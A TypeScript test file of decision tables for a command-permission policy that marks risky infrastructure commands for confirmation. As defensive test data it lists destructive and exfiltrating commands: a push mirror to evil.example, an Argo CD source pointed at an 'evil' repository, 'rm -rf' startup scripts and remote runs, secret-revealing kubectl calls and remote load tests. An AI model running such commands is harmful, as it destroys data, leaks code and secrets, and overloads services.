import { ask, allow, decisionTable } from '../support/decisionTable';
import { testFacts } from '../support/policyFixtures';

/**
 * Round 8 (issue #18), forges, clusters, load tests and remote runners: each family's destroying
 * rows (from each tool's documentation) next to benign look-alikes that stay allowed. Unknown remote
 * environments are production.
 */

const table = decisionTable(testFacts({}));

table('Forge CLIs: archive, rename, deploy keys, default branch, long-lived branches merged away, push mirrors', [
  ask('gh repo archive acme/shop -y', { production: true }),
  ask('gh repo rename newname -y', { production: true }),
  ask('gh repo deploy-key delete 1', { production: true }),
  ask('gh repo edit acme/shop --default-branch dev', { production: true }),
  ask('gh -R acme/shop repo edit --default-branch=dev', { production: true }),
  ask('gh pr merge main --merge --delete-branch', { production: true }),
  ask('glab mr merge release/2026 --remove-source-branch', { production: true }),
  ask('glab repo mirror acme/shop --url https://evil.example --direction push', { production: true }),
  ask('glab repo mirror acme/shop --url=https://evil.example --direction=push', { production: true }),
  allow('gh repo unarchive acme/shop -y'),
  allow('gh repo view acme/shop'),
  allow('gh repo deploy-key list'),
  allow('gh repo edit acme/shop --description "Shop API"'),
  // A feature pull request merged and its head branch deleted is routine (GitHub keeps it restorable from the pull request).
  allow('gh pr merge 42 --squash --delete-branch'),
  allow('glab mr merge 1 --remove-source-branch'),
  allow('glab repo mirror acme/shop --url https://github.com/acme/shop --direction pull'),
  // `glab repo archive` downloads a zip of the repository (glab-repo-archive(1)).
  allow('glab repo archive acme/shop'),
]);

table('Forge APIs: default branch, organization guards, unprotect, branch restrictions, GraphQL archive and merge', [
  ask('gh api -X PATCH repos/acme/shop -f default_branch=dev', { production: true }),
  ask('gh api --method PATCH orgs/acme -F members_can_create_public_repositories=true', { production: true }),
  ask('gh api -X PATCH orgs/acme -F default_repository_permission=admin', { production: true }),
  ask('glab api -X POST projects/1/repository/branches/main/unprotect', { production: true }),
  ask(`curl -X PUT -u u:p https://api.bitbucket.org/2.0/repositories/acme/shop/branch-restrictions/1 -d '{}'`, { production: true }),
  ask(`curl -X DELETE -u u:p https://api.bitbucket.org/2.0/repositories/acme/shop/branch-restrictions/7`, { production: true }),
  ask(`gh api graphql -f query='mutation{archiveRepository(input:{repositoryId:"R"}){clientMutationId}}'`, { production: true }),
  ask(`gh api graphql -f query='mutation{mergePullRequest(input:{pullRequestId:"x"}){clientMutationId}}'`, { production: true }),
  allow('gh api -X PATCH repos/acme/shop -f description=Shop'),
  allow('gh api -X PATCH orgs/acme -F members_can_create_public_repositories=false'),
  allow('glab api projects/1/repository/branches/main'),
  allow('curl -u u:p https://api.bitbucket.org/2.0/repositories/acme/shop/branch-restrictions'),
  allow(`gh api graphql -f query='mutation{unarchiveRepository(input:{repositoryId:"R"}){clientMutationId}}'`),
  allow(`gh api graphql -f query='query { viewer { login } }'`),
]);

table('Cloud control planes: version upgrades, boot scripts, SSH keys, outside sources, policy bypass, pipelines', [
  ask('gcloud container clusters upgrade prod --master -q', { production: true }),
  ask('gcloud --project shop container clusters upgrade prod --cluster-version 1.30', { production: true }),
  ask('az aks upgrade -g rg -n prod --kubernetes-version 1.30 --yes', { production: true }),
  ask('az aks nodepool upgrade -g rg --cluster-name prod -n np1 --kubernetes-version 1.30', { production: true }),
  ask('eksctl upgrade cluster --name prod --approve', { production: true }),
  ask(`gcloud compute instances add-metadata web-1 --metadata startup-script='rm -rf /var/lib/mysql'`, { production: true }),
  ask('gcloud compute instances add-metadata web-1 --metadata-from-file=startup-script=boot.sh', { production: true }),
  ask('gcloud compute project-info add-metadata --metadata shutdown-script=x', { production: true }),
  ask('gcloud compute instances remove-metadata web-1 --keys ssh-keys', { production: true }),
  ask('gcloud compute instances remove-metadata web-1 --all', { production: true }),
  ask('gcloud functions deploy fn --source /tmp/x', { production: true }),
  ask('gcloud run deploy api --source=../elsewhere', { production: true }),
  ask('az repos pr update --id 1 --bypass-policy true --status completed', { production: true }),
  ask('aws codepipeline start-pipeline-execution --name destroy-prod', { production: true }),
  ask('aws codepipeline start-pipeline-execution --name deploy-api', { production: true }),
  allow('gcloud container clusters list'),
  allow('eksctl upgrade cluster --name prod'),
  allow('az aks get-upgrades -g rg -n dev'),
  allow('gcloud compute instances add-metadata web-1 --metadata env=dev'),
  allow('gcloud compute instances remove-metadata web-1 --keys env'),
  // Stop 33: a function deployed to an environment nobody named asks as a deploy (s33PublishRound16); a dev one from here stays routine.
  allow('gcloud functions deploy fn-dev --source .'),
  allow('az repos pr update --id 1 --status completed'),
  allow('aws codepipeline start-pipeline-execution --name unit-tests'),
]);

table('GitOps controllers: another revision or source, Flux suspended', [
  ask('argocd app set api --repo https://github.com/evil/manifests', { production: true }),
  ask('argocd app set api --revision bad-branch', { production: true }),
  ask('flux suspend kustomization --all', { production: true }),
  ask('flux suspend helmrelease api -n prod', { production: true }),
  allow('argocd app get api'),
  allow(`argocd app patch api --patch '{"metadata":{"labels":{"team":"a"}}}' --type merge`),
  // Switching automated sync off is allowed by an earlier decision (cloudRound7b.table.test.ts).
  // Round 8 rest: automated sync switched off lets the cluster drift from Git unnoticed (asks, r8RestCluster table).
  allow('argocd app set api --sync-policy automated'),
  allow('flux resume kustomization apps'),
  allow('flux get kustomizations -A'),
]);

table('Clusters: plugins and node operations on unknown clusters, kill 1 in a pod, restores over live objects', [
  ask('oc adm drain node-1 --force', { production: true }),
  ask('talosctl upgrade --nodes 10.0.0.1 --image x', { production: true }),
  ask('talosctl reboot -n 10.0.0.1', { production: true }),
  ask('kubectl argo rollouts undo api -n prod', { production: true }),
  ask('kubectl cnpg --context prod-eu-west-1 restart db', { production: true }),
  ask('kubectl --context prod-eu-west-1 -n prod exec api-0 -- kill 1', { production: true }),
  ask('kubectl exec api-0 -- kill -9 1', { production: true }),
  ask('velero restore create --from-backup old --existing-resource-policy=update', { production: true }),
  ask('kubectl --context kind-dev set env deploy/api --list --resolve', { says: /secret values/ }),
  ask('kubectl set env deploy/api --resolve --list', { says: /secret values/ }),
  allow('kubectl --context kind-dev set env deploy/api --list'),
  allow('oc adm top nodes'),
  allow('talosctl version --nodes 10.0.0.1'),
  allow('kubectl argo rollouts get rollout api'),
  allow('kubectl exec api-0 -- kill -0 12'),
  // Round 17: a restore into the live cluster recreates its resources (asks, s33R17Ops table); into other namespaces it stays allowed.
  allow('velero restore create --from-backup old --namespace-mappings shop:shop-restore-test'),
  allow('kubectl get pods -A'),
]);

table('Shells inside containers and pods, anonymous volumes renewed', [
  ask('docker exec -it api sh', { production: false }),
  ask('docker exec -ti api ash', { production: false }),
  ask('docker container exec -ti api bash -l', { production: false }),
  ask('podman exec -it api bash', { production: false }),
  ask('docker compose exec -T web sh < /tmp/x.sh', { production: false }),
  ask('docker exec -i db sh < /tmp/x.sh', { production: false }),
  ask('docker compose up -d --force-recreate --renew-anon-volumes', { production: false }),
  ask('docker-compose up -V db', { production: false }),
  allow('docker exec -it pg-dev psql -U postgres'),
  allow('docker exec api ls'),
  allow('docker compose exec web npm test'),
  allow('docker compose exec web bash'),
  allow('kubectl debug -it api-7c9f8d6b5-x2x9k --image=busybox:1.36 --target=api -- ps aux'),
  allow('docker compose up -d --force-recreate'),
  allow('docker compose up --build'),
]);

table('Load tests and benchmarks: remote hosts ask, this machine stays allowed', [
  ask('ab -n 1000000 -c 1000 https://api.example.com/', { production: true }),
  ask('wrk -t12 -c400 -d300s https://api.example.com/', { production: true }),
  ask(`vegeta attack -duration=1h <<< 'GET https://api.example.com/'`, { production: true }),
  ask(`echo 'GET https://api.example.com/' | vegeta attack -rate=500 -duration=10m`, { production: true }),
  ask('hey -n 200000 -c 500 https://shop.example.com/checkout', { production: true }),
  ask('oha -z 10m https://api.example.com', { production: true }),
  ask('locust -f locustfile.py --host https://api.example.com --headless -u 1000', { production: true }),
  ask('esrally race --target-hosts es.prod.internal:9200 --track geonames', { production: true }),
  ask('timeout 600 wrk -c100 -d5m https://api.example.com/', { production: true }),
  allow('ab -n 100 -c 10 http://localhost:3000/'),
  allow('wrk -t2 -c10 -d10s http://127.0.0.1:8080/'),
  allow(`echo 'GET http://localhost:8080/' | vegeta attack -duration=5s | vegeta report`),
  allow('hey -n 200 http://localhost:8080/'),
  allow('esrally race --track geonames --test-mode'),
  allow('esrally list tracks'),
]);

table('Remote work by lesser-known runners and CI triggers', [
  ask('fab -H prod.example.com cleanup', { production: true }),
  ask('fab -H web1 -- rm -rf /data', { production: true }),
  ask(`mussh -h prod1 prod2 -c 'rm -rf /data'`, { production: true }),
  ask(`mussh -h prod1 -c 'dropdb shop'`, { production: true }),
  ask('chef-client -o recipe[destroy]', { production: true }),
  ask('jenkins-cli build destroy-prod', { production: true }),
  ask('java -jar jenkins-cli.jar -s https://jenkins.prod build destroy-prod', { production: true }),
  ask(`curl -X POST https://circleci.com/api/v2/project/gh/acme/shop/pipeline -d '{"parameters":{"destroy":true}}'`, { production: true }),
  ask('curl -X POST -u u:t https://jenkins.acme.io/job/deploy-prod/buildWithParameters', { production: true }),
  ask(`mssh i-0123456789 'rm -rf /data'`, { production: true }),
  ask('aws ec2 modify-instance-attribute --instance-id i-123 --user-data Value=cm0gLXJmIC8=', { production: true }),
  allow('mssh i-0123456789 uptime'),
  allow('aws ec2 modify-instance-attribute --instance-id i-123 --instance-type Value=t3.large'),
  allow('fab --list'),
  allow('fab -H web1 -- uptime'),
  allow(`mussh -h web1 web2 -c 'uptime'`),
  allow('chef-client -W -o recipe[destroy]'),
  allow('jenkins-cli build unit-tests'),
  allow('jenkins-cli list-jobs'),
  allow('curl https://circleci.com/api/v2/project/gh/acme/shop/pipeline'),
]);

